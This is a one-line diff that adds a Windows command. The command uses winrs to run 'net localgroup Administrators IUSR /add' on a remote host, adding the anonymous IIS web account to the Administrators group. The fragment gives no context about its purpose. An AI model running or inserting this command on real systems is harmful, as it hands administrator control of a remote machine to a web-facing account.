@@ -1,0 +1,1 @@
+winrs -r:otherhost net localgroup Administrators IUSR /add
